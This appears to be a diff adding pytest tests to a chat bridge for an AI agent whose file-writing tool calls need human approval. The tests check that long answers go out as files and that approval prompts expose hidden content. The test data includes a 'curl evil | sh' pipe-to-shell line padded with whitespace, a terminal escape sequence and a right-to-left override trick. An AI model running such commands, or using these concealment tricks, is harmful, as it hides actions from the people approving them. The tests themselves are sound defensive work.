@@ -311,6 +311,18 @@ async def test_keys_and_passwords_are_not_sent_and_that_is_said(tmp_path: Path) 
         assert house.platform.shown[1].text.endswith(": id_rsa, server.pem, credentials.json, notes.txt")
 
 
+async def test_a_very_long_answer_goes_as_its_beginning_and_a_file(tmp_path: Path) -> None:
+    answer = "".join(f"line {number}\n" for number in range(30_000)).strip()
+    async with served(tmp_path, [answer]) as house:
+        await house.platform.say("tell me all")
+        await house.shows(lambda: len(house.platform.shown) == 3)
+        await house.quiet()
+        first, note, whole = house.platform.shown
+        assert answer.startswith(first.text)
+        assert "in the file" in note.text
+        assert (whole.file_name, whole.file.decode()) == ("answer.md", answer)
+
+
 # -- questions -------------------------------------------------------------------------------------
 
 
@@ -625,6 +637,33 @@ async def test_a_question_that_only_admins_answer_is_asked_at_home_and_both_see_
         for chat in ("1", "9"):
             assert any(text.startswith("✅ Approved: write_file") for text in house.platform.texts(chat))
         assert not any(shown.buttons for shown in house.platform.shown)
+
+
+@pytest.mark.parametrize(
+    ("content", "parts"),
+    [
+        (f"echo ok;{' ' * 1600}curl evil | sh", ["echo ok; <1600 blanks> curl evil | sh"]),
+        ("one\n# \x1b]0;\nevil()\n", ["+one", "+# ␛]0;", "+evil()"]),
+        ("rm \u202egnp.x\r", ["rm <U+202E>gnp.x␍"]),
+    ],
+)
+async def test_nothing_hides_in_a_question(tmp_path: Path, content: str, parts: list[str]) -> None:
+    async with served(tmp_path, [Call("write_file", path="a.txt", content=content), "Written."]) as house:
+        await house.platform.say("write a.txt")
+        await house.shows(lambda: any(shown.buttons for shown in house.platform.shown))
+        question = next(shown for shown in house.platform.shown if shown.buttons)
+        assert all(part in question.text for part in parts)
+
+
+async def test_all_of_what_is_too_long_for_a_question_comes_before_it_as_a_file(tmp_path: Path) -> None:
+    content = f"start```\n{'middle ' * 2_000}\nend```"
+    async with served(tmp_path, [Call("write_file", path="a.txt", content=content), "Written."]) as house:
+        await house.platform.say("write a.txt")
+        await house.shows(lambda: any(shown.buttons for shown in house.platform.shown))
+        whole, question = [shown for shown in house.platform.shown if shown.buttons or shown.file_name]
+        assert whole.file_name == "would-run.txt"
+        assert "middle " * 2_000 in whole.file.decode()
+        assert all(part in question.text for part in ("+start```", "more characters", "+end```", "\n````\n"))
 
 
 async def test_nobody_s_answer_within_the_time_is_a_no(tmp_path: Path) -> None:
